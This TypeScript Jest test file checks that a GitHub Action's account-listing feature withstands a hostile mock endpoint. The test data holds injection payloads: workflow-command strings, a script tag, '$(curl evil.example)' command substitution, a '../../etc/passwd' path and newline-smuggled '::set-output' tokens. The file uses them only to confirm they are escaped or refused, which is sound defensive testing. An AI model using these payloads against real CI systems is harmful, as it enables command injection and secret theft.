import { describe, expect, test } from '@jest/globals';
import {
  expectCleanFailure,
  expectCleanSuccess,
  INJECTION,
  PER_ATTEMPT_MS,
  refreshInputs,
  runHostileAction,
  useHostileSuite,
} from './harness.js';
import { type Answer, HostileServer, type Route } from './server.js';

/**
 * The list-accounts sub-action against hostile listings: names that try to inject commands,
 * names that are not names, endless and repeating pagination, and the error paths shared with
 * the main action. Each case runs the bundle as the runner does, with RUNNER_DEBUG=1.
 */

useHostileSuite();

const json = (body: unknown, status = 200): Answer => ({ kind: 'json', status, body });

/** Names an account may legally have (printable), chosen to do harm if printed or run raw. */
const LEGAL_BUT_HOSTILE = [
  '::stop-commands::hostile-token',
  '##[error]legacy',
  '<script>alert(1)</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a GitHub expression, on purpose
  '$(curl evil.example) `id` ${{ secrets.X }}',
  '%0A::error::encoded',
];

interface Case {
  readonly label: string;
  readonly answers: (
    server: HostileServer,
  ) => Partial<Record<Route, Answer | ((n: number) => Answer)>>;
  readonly outcome: 'fails' | 'succeeds';
  readonly message?: RegExp;
  readonly attempts?: number;
  readonly check?: (outputs: Record<string, string>, summary: string) => void;
}

const account = (fields: Record<string, unknown>) => json({ accountList: [fields] });

const CASES: Case[] = [
  ...LEGAL_BUT_HOSTILE.map(
    (name): Case => ({
      label: `an account named ${JSON.stringify(name)} is listed as data, never as a command`,
      answers: () => ({
        accounts: account({
          accountId: '111111111111',
          accountName: name,
          emailAddress: `${name}@example.com`,
        }),
        roles: json({ roleList: [{ roleName: 'ReadOnly' }] }),
      }),
      outcome: 'succeeds',
      check: (outputs, summary) => {
        expect(outputs.matrix).not.toContain('::');
        expect(outputs.matrix).not.toContain('##[');
        const matrix = JSON.parse(outputs.matrix ?? '') as {
          include: { 'account-name': string }[];
        };
        expect(matrix.include.map((entry) => entry['account-name'])).toEqual([name]);
        const accounts = JSON.parse(outputs.accounts ?? '') as { 'account-name': string }[];
        expect(accounts[0]?.['account-name']).toBe(name);
        // the summary shows the name as text: escaped HTML, defused command openers
        if (name.startsWith('<script>')) expect(summary).toContain('&lt;script&gt;');
        // (a `::` inside a line is no command: only one at a line's start is, and ARNs hold `::`)
        expect(summary).not.toMatch(/^\s*::/m);
        expect(summary).not.toContain('##[');
      },
    }),
  ),
  {
    label: 'an account name with an escape sequence is refused',
    answers: () => ({
      accounts: account({ accountId: '111111111111', accountName: 'Prod\u001b[2J' }),
    }),
    outcome: 'fails',
    message:
      /^ListAccounts failed: invalid response: the accountName of account 111111111111 is not text without control characters/,
  },
  {
    label: 'an account name with a newline and a command is refused',
    answers: () => ({ accounts: account({ accountId: '111111111111', accountName: INJECTION }) }),
    outcome: 'fails',
    message: /accountName/,
  },
  {
    label: 'an account name of 10,000 characters is refused',
    answers: () => ({
      accounts: account({ accountId: '111111111111', accountName: 'a'.repeat(10_000) }),
    }),
    outcome: 'fails',
    message: /accountName/,
  },
  {
    label: 'an email with a newline is refused',
    answers: () => ({
      accounts: account({ accountId: '111111111111', emailAddress: 'a@b\n::error::x' }),
    }),
    outcome: 'fails',
    message: /emailAddress/,
  },
  {
    label: 'an account id with a command is refused',
    answers: () => ({ accounts: account({ accountId: '1111\n::stop-commands::x' }) }),
    outcome: 'fails',
    message: /an accountId in accountList is not 12 digits/,
  },
  {
    label: 'an account id as a number is refused',
    answers: () => ({ accounts: account({ accountId: 111111111111 }) }),
    outcome: 'fails',
    message: /accountId/,
  },
  {
    label: 'a role name with a newline and a command is refused',
    answers: () => ({
      accounts: account({ accountId: '111111111111', accountName: 'a' }),
      roles: json({ roleList: [{ roleName: `ReadOnly${INJECTION}` }] }),
    }),
    outcome: 'fails',
    message:
      /^ListAccountRoles failed: invalid response: a roleName in roleList is not a permission set name/,
  },
  {
    label: 'a role name that is a path is refused',
    answers: () => ({
      accounts: account({ accountId: '111111111111', accountName: 'a' }),
      roles: json({ roleList: [{ roleName: '../../etc/passwd' }] }),
    }),
    outcome: 'fails',
    message: /roleName/,
  },
  {
    label: 'accountList as an object is refused',
    answers: () => ({ accounts: json({ accountList: { accountId: '111111111111' } }) }),
    outcome: 'fails',
    message: /^ListAccounts failed/,
  },
  {
    label: 'a nextToken that repeats ends the listing with a clear error',
    answers: () => ({ accounts: json({ accountList: [], nextToken: 'again-and-again' }) }),
    outcome: 'fails',
    message:
      /^ListAccounts failed: malformed response: the pages would not end \(2 so far, each with a next token\); stopped$/,
  },
  {
    label: 'a listing of endless pages ends after 1,000 pages',
    answers: () => ({ accounts: (n: number) => json({ accountList: [], nextToken: `page-${n}` }) }),
    outcome: 'fails',
    message:
      /^ListAccounts failed: malformed response: the pages would not end \(1000 so far, each with a next token\); stopped$/,
  },
  {
    label: 'a nextToken that repeats in ListAccountRoles ends it too',
    answers: () => ({
      accounts: account({ accountId: '111111111111', accountName: 'a' }),
      roles: json({ roleList: [{ roleName: 'ReadOnly' }], nextToken: 'loop' }),
    }),
    outcome: 'fails',
    message: /^ListAccountRoles failed: malformed response: the pages would not end/,
  },
  {
    label: 'a nextToken as a number is refused',
    answers: () => ({ accounts: json({ accountList: [], nextToken: 42 }) }),
    outcome: 'fails',
    message: /^ListAccounts failed/,
  },
  {
    label: 'ListAccounts: an endless body is refused at 1 MiB',
    answers: () => ({ accounts: { kind: 'endless' } }),
    outcome: 'fails',
    message: /larger than 1 MiB/,
  },
  {
    label: 'ListAccounts: a trickling body ends at the per-attempt deadline',
    answers: () => ({ accounts: { kind: 'trickle', everyMs: 300 } }),
    outcome: 'fails',
    attempts: 1,
    message: /did not complete within the 10000 ms requestTimeout/,
  },
  {
    label: 'ListAccounts: a 500 with commands in every field',
    answers: () => ({
      accounts: json({ code: INJECTION, message: INJECTION, __type: INJECTION }, 500),
    }),
    outcome: 'fails',
    message: /^ListAccounts failed after 2 attempts/,
  },
  {
    label: 'ListAccountRoles: a 403 whose message holds commands',
    answers: () => ({
      accounts: account({ accountId: '111111111111', accountName: 'a' }),
      roles: {
        kind: 'json',
        status: 403,
        body: { message: INJECTION },
        errorType: 'ForbiddenException',
      },
    }),
    outcome: 'fails',
    message: /^ListAccountRoles was refused: no access/,
  },
  {
    label: 'CreateToken: a rotated refresh token with a newline is refused, no output is set',
    answers: (server) => {
      const bad = `${server.refreshToken()}\n::set-output name=x::y`;
      server.remember(bad);
      return {
        token: json({ accessToken: server.accessToken(), expiresIn: 3600, refreshToken: bad }),
      };
    },
    outcome: 'fails',
    message: /refreshToken is not printable ASCII/,
  },
];

describe('list-accounts against a hostile endpoint', () => {
  test.concurrent.each(CASES.map((c) => [c.label, c] as const))(
    '%s',
    async (_label, c) => {
      const server = await HostileServer.start();
      try {
        for (const [route, answer] of Object.entries(c.answers(server))) {
          server.on(route as Route, typeof answer === 'function' ? (_r, n) => answer(n) : answer);
        }
        const attempts = c.attempts ?? 2;
        const inputs = refreshInputs(server);
        const result = await runHostileAction(server, { inputs, attempts, listAccounts: true });
        if (c.outcome === 'fails') {
          const message = await expectCleanFailure(result, server, inputs, attempts);
          if (c.message) expect(message).toMatch(c.message);
        } else {
          expectCleanSuccess(result, server, inputs, attempts);
          c.check?.(result.outputs, result.summary);
          expect(result.summary).toContain('<table>');
        }
      } finally {
        await server.stop();
      }
    },
    3 * PER_ATTEMPT_MS + 60_000,
  );
});
